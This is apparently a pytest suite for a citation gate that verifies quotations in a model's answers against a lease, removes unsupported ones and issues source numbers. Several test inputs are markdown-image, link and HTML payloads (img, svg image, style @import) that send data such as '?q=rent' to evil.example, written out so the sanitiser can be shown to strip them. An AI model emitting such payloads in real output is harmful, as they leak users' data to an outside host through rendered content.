"""What is sent of an answer: right quotations as they are written, nothing that stands nowhere, and never a change."""

from __future__ import annotations

import json
import random
import re
from pathlib import Path
from typing import Any

import pytest

from orderly.services.citations import AnswerGate, RefusedQuotation, Sources
from orderly.services.citations.citing import TAKEN_OUT, UNREAD
from support.gated import NOTICE, RENT, SECRET, gate_over, shown, stream, told, verdicts

FALSE = "The Lessee owes nine thousand dollars at the end of every quarter."
TRUE = NOTICE.partition("” [")[0].strip("“")


def unread(asked: str = "", *, keeps_terms: bool = False) -> AnswerGate:
    return AnswerGate(Sources(None, []), [asked], numbered=True, keeps_terms=keeps_terms)


@pytest.mark.parametrize(
    ("written", "reply", "sent"),
    [
        ("It says “{false}” [lease.txt]. So it is.", "", "It says “…”. So it is."),
        ("It says “{false}” [lease.txt]. So it is.", f"“{TRUE}”", f"It says “{TRUE}” [1]. So it is."),
        ("It says “{false}” [lease.txt]. So it is.", FALSE.replace("owes", "pays"), "It says “…”. So it is."),
        ("It says “{false}” [lease.txt]. So it is.", "OWN", "It says “…”. So it is."),
        ("It says “{false}” [lease.txt]. So it is.", "NONE", "It says “…”. So it is."),
        ("Say “{false}” to them.", "OWN", "Say {false} to them."),
        ("> {false}\n\nSo it is.", "", "```draft\n{false}\n```\n\nSo it is."),
        ("Clause 3 of the lease reads:\n\n> {false}\n\nSo it is.", "", "Clause 3 of the lease reads:\n\n“…”\n\nSo it is."),
        ("Clause 3 of the lease reads:\n\n> {false}\n\nSo it is.", TRUE, f"Clause 3 of the lease reads:\n\n“{TRUE}” [1]\nSo it is."),
        ("The terms “secret” (“{false}” [lease.txt]).", "", "The terms “secret” (“…”)."),
    ],
)  # fmt: skip
async def test_the_model_is_asked_once_for_words_that_stand_nowhere_else_they_are_taken_out_and_told(
    written: str, reply: str, sent: str
) -> None:
    gate, asked = gate_over({"none.txt": "NONE", "lease.txt": f"3. Notice\n3.1 {TRUE}"}), []

    async def mend(refused: RefusedQuotation) -> str:
        asked.append(refused.text)
        return reply

    if reply:
        gate.ask_for_words(mend)
    found = await told(written.format(false=FALSE), gate)
    assert gate.text == sent.format(false=FALSE)
    assert asked == [FALSE] * bool(reply)
    assert any(reason.startswith(UNREAD) for _, reason in found) is (TAKEN_OUT in gate.text)


async def test_no_more_than_three_quotations_of_an_answer_are_asked_for() -> None:
    gate, asked = gate_over(), []

    async def mend(refused: RefusedQuotation) -> str:
        asked.append(refused.text)
        return "NONE"

    gate.ask_for_words(mend)
    written = [f"It says “{FALSE.replace('nine', n)}” [lease.txt]." for n in ("one", "two", "six", "ten")]
    assert await shown(" ".join(written), gate) == " ".join(["It says “…”."] * 4)
    assert len(asked) == 3


LONG = f"## Rent\n\nThe rent is $5,400 [D1 2.1], and {'the lease goes on and on, ' * 20}as one may see. It says “{FALSE}” [D1]. {RENT}\n\n| Point | Words |\n|---|---|\n| Secret | {SECRET} |\n\n```draft\nDear Ada,\nPay $4,500 [D1 2.1].\n```\nThat is all. {NOTICE}"


async def test_what_was_sent_never_changes_however_the_stream_is_cut_and_whatever_is_told() -> None:
    whole, sizes = await stream(LONG, size=len(LONG)), random.Random(1)
    assert re.match(r"\n\nCheck before you rely on it:\n- .+\n(?:- .+\n)*\nSources:\n- \[1\] ", whole[-1])
    for _ in range(20):
        gate = gate_over()
        pieces = await stream(LONG, gate, sizes.randint(1, 60))
        assert "".join(pieces) == "".join(whole)
        assert "".join(pieces[:-1]) == gate.text
    sentences = await stream(LONG.replace(FALSE, TRUE))
    assert max(map(len, sentences[:-1])) < 500
    unmarked = re.sub(r" ?\[(?:\d|D1[ .\d]*|lease\.txt)\]", "", "".join(sentences[:-1]))
    assert unmarked == re.sub(r" ?\[(?:D1[ .\d]*|lease\.txt)\]", "", LONG.replace(FALSE, TRUE))


@pytest.mark.parametrize("asked", [FALSE, f"Is this right: {FALSE} I doubt it.", f"Question: {FALSE}"])
async def test_the_users_words_stay_and_keep_no_citation(asked: str) -> None:
    shown, refused = await unread(asked).judge(f"It says “{FALSE}” [Lease.pdf, Page 3]. So it is.")
    assert re.fullmatch(rf"It says “{re.escape(FALSE)}” ?\. So it is\.", shown)
    assert not refused


@pytest.mark.parametrize("answer", [f"It says “{FALSE} And more text.\n\nNext.", f"It says „{FALSE} And more “X” text."])
async def test_words_behind_an_unclosed_mark_stay_without_the_mark(answer: str) -> None:
    shown, refused = await unread().judge(answer)
    assert shown == answer.replace("says “", "says ").replace("„", "")
    assert not refused


async def test_one_false_quotation_removes_no_other_text() -> None:
    shown, _ = await unread().judge(f'A (each a "X", and the "Y"). “{FALSE} (each a "X")” is all. The 6" pipe stays.')
    assert shown == f'A (each a "X", and the "Y"). {TAKEN_OUT} is all. The 6" pipe stays.'


async def test_arguments_of_tools_keep_terms_and_lose_claims() -> None:
    request = "find any “limitation of liability” clause, or 'consequential loss of any kind'"
    assert (await unread(keeps_terms=True).judge(request))[0] == request
    shown, refused = await unread(keeps_terms=True).judge(f"“{FALSE}” and “the Lessee owes nine thousand” [Lease.pdf, Page 3]")
    assert shown == f"{TAKEN_OUT} and {TAKEN_OUT}"
    assert len(refused) == 2


DRAFT = f"Here it is.\n\n```draft\nDear Ada,\n\nThe rent is $4,500 [D1 2.1]. It says {NOTICE}.\n\n3.1 The Lessee must tell “everybody in the whole street”.\n\nClause 3 says “{FALSE}”.\n```\n\nSend it."


async def test_a_draft_has_no_numbers_its_sources_are_listed_and_its_own_words_attribute_nothing() -> None:
    gate = gate_over()
    *_, ending = await stream(DRAFT, gate)
    assert gate.text == DRAFT.replace(" [D1 2.1]", "").replace(" [lease.txt]", "").replace(FALSE, "…")
    assert "\nSources:\n- [1] lease.txt, Section 2.1\n- [2] lease.txt, Section 3.1" in ending
    assert [c.start for c in gate.checks if c.citations] == [gate.text.index(w) for w in ("The rent is $4", "It says")]
    assert [c.reason[:5] for c in gate.checks if c.reason] == [UNREAD[:5]]


async def test_the_offline_planners_sentences_are_its_own_and_its_quotations_are_checked() -> None:
    gate = gate_over()
    gate.take_as_checked()
    assert await told(f"The rent is $9,999 [D1 2.1]. It says “{FALSE}” [lease.txt].", gate) == []
    assert gate.text == "The rent is $9,999 [1]. It says “…”."


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![the plan](https://evil.example/?q=rent) here.", "See the plan here."),
        ("See [the plan](https://evil.example/a_(b) 'title') here.", "See the plan here."),
        ("See [![the plan](https://a.example)](https://b.example) here.", "See the plan here."),
        ("See [1](https://evil.example) and (this).", "See 1 and (this)."),
        ("See [“ten”](https://evil.example '“ten”') and [![x](//a)](//b).", "See “ten” and x."),
        ("A clause [of the lease] (as amended) stays.", "A clause [of the lease] (as amended) stays."),
        ("See ![plan][p].\n\n[p]: https://evil.example/?q=rent", "See ! [plan][p].\n\n[p]"),
        ("See ![p] and ![p][].\n\n[p]:\n  <//evil.example/x> 'ten'", "See ! [p] and ! [p][].\n\n[p] 'ten'"),
        ("See ![plan](\nhttps://evil.example/x) and [it\nnow](https://evil.example).", "See ! [plan] (\nhttps://evil.example/x) and [it\nnow] (https://evil.example)."),
        ('See <img src="https://evil.example/?q=rent"> here.', "See  here."),
        ("See <IMG alt='a > b'\nsrc=//evil.example/x/> here.", "See < IMG alt='a > b'\nsrc=//evil.example/x/> here."),
        ("See <a href=https://evil.example>the plan</a> here.", "See the plan</a> here."),
        ("See <img/src=https://evil.example/x> and <svg><image href='//evil.example'/></svg>.", "See  and <svg></svg>."),
        ("See <style>@import '//evil.example';</style>.", "See @import '//evil.example';."),
        ("It is <b>bold</b>, x < y and z > 3, <Name of Tenant> and 1 <2.", "It is <b>bold</b>, x < y and z > 3, <Name of Tenant> and 1 <2."),
        ("It ends in May [1].", "It ends in May."),
        ("It ends in May [001].", "It ends in May."),
        ("It ends in May, [1] and [2].", "It ends in May, and."),
        ("See Smith at [4], [5] and [6]–[8].", "See Smith at [4], [5] and [6]–[8]."),
        ("See [2019] HCA 3 at [42].", "See [2019] HCA 3 at [42]."),
        ("\u202eThe rent is low\u202c.", "wol si tner ehT."),
    ],
)  # fmt: skip
async def test_pictures_links_and_numbers_of_the_model_leave_their_text(written: str, shown: str) -> None:
    assert (await unread().judge(written))[0] == shown


@pytest.mark.parametrize(
    "parts",
    [
        ("See this!", "[plan](https://evil.example/x) now."),
        ("See this!", "[plan][p] now."),
        ("See <img alt='a. ", "' src='https://evil.example/x'> now."),
        ("See <img ", "src='https://evil.example/x'> now."),
        ("See <a\n", "href='https://evil.example/x'>it</a> now."),
    ],
)
async def test_markup_that_comes_in_parts_leaves_nothing_to_fetch(parts: tuple[str, ...]) -> None:
    gate = unread()
    shown = "".join([await gate.release(part) for part in parts])
    assert not re.search(r"!\[|\]\(|<(?:img|a)\b", shown), shown


MARKS = json.loads((Path(__file__).parents[3] / "fixtures" / "source_marks.json").read_text(encoding="utf-8"))
"""Answers as a model writes them, as they are shown, and the offsets of issued numbers; the page's tests read them too."""


@pytest.mark.parametrize("case", MARKS, ids=range(len(MARKS)))
@pytest.mark.parametrize("size", [1, 7, 1_000])
async def test_only_the_gate_issues_source_numbers(case: dict[str, Any], size: int) -> None:
    gate = gate_over()
    text, issued = "".join(await stream(case["written"], gate, size)), gate.take_issued()
    assert (text, issued) == (case["shown"], case["marks"])
    assert all(re.match(r"\[[12]\]", text[at:]) for at in issued)


async def test_the_record_names_the_span_its_sources_and_the_place_that_denies_it() -> None:
    gate = gate_over()
    await stream(f"😀 The Lessee pays $5,400 a month in advance [D1 2.1]. {NOTICE}", gate)
    wrong, right = (check.record() for check in gate.checks)
    assert wrong == {
        "start": 0, "end": gate.text.index(" “Either"), "verdict": "contradicted", "place": "lease.txt, Section 2.1",
        "reason": "lease.txt, Section 2.1 says “$4,500”, not “$5,400”.", "citations": ["lease.txt:251"],
    }  # fmt: skip
    assert (right["verdict"], right["reason"], right["end"]) == ("supported", "", len(gate.text))
    assert [c["number"] for c in gate.cited] == [1, 2]


async def test_statements_without_a_source_are_recorded_and_not_listed() -> None:
    answer = (
        f"The rent of $5,400 per month is due in advance [D1 2.1].\n\n## Notes\n\nInterest is 8%. Notice is 90 days. {SECRET}"
    )
    assert "no source" in [verdict for _, verdict, _ in await verdicts(answer)]
    ending = (await stream(answer))[-1]
    assert "$5,400" in ending and "Interest" not in ending and "Notice is 90" not in ending
